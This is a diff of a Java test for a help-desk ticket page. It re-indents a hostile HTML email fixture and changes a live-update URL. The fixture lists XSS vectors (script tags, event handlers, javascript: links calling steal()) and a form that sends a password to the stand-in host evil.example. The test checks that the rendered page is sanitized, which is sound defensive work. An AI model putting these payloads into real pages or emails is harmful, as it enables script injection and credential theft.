@@ -49,15 +49,15 @@ class TicketPageTest {
     @Test
     void hostile_html_reaches_no_page_and_is_harmless_in_its_frame() {
         long message = customer(BodyType.HTML, """
-                <p onclick="steal()">Good morning</p><script>steal()</script><img src=x onerror=steal()>
-                <style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/b) }</style>
-                <svg onload=steal()><a xlink:href="javascript:steal()">x</a></svg>
-                <meta http-equiv="refresh" content="0;url=https://evil.example/">
-                <form action="https://evil.example/"><input name=password></form>
-                <iframe src="https://evil.example/"></iframe><base href="https://evil.example/">
-                <a href="javascript:steal()">here</a> <a href="https://shop.example/?a=1">shop</a>
-                <img src="https://evil.example/pixel.gif"><p style="position:fixed;background:url(https://evil.example/c)">end</p>
-                """);
+            <p onclick="steal()">Good morning</p><script>steal()</script><img src=x onerror=steal()>
+            <style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/b) }</style>
+            <svg onload=steal()><a xlink:href="javascript:steal()">x</a></svg>
+            <meta http-equiv="refresh" content="0;url=https://evil.example/">
+            <form action="https://evil.example/"><input name=password></form>
+            <iframe src="https://evil.example/"></iframe><base href="https://evil.example/">
+            <a href="javascript:steal()">here</a> <a href="https://shop.example/?a=1">shop</a>
+            <img src="https://evil.example/pixel.gif"><p style="position:fixed;background:url(https://evil.example/c)">end</p>
+            """);
         var browser = world.browser().signIn("akowalski");
         String page = browser.get("/desk/tickets/1234").body();
         assertThat(page).doesNotContain("steal()", "evil.example");
@@ -230,9 +230,9 @@ class TicketPageTest {
     @Test
     @Timeout(60)
     void an_open_page_hears_of_a_new_mail_and_of_the_others_who_look() throws Exception {
-        var mine = world.browser().signIn("akowalski").lines("/desk/tickets/1234/live");
+        var mine = world.browser().signIn("akowalski").lines("/desk/live?ticket=1234");
         assertThat(mine.next()).startsWith("retry:");
-        var others = world.browser().signIn("testowy.agent17").lines("/desk/tickets/1234/live");
+        var others = world.browser().signIn("testowy.agent17").lines("/desk/live?ticket=1234");
         assertThat(others.next()).startsWith("retry:");
         assertThat(until(mine, "event: who")).isEqualTo("data: Also here: Testowy Agent 17");
         customer(BodyType.PLAIN, "Are you there?");
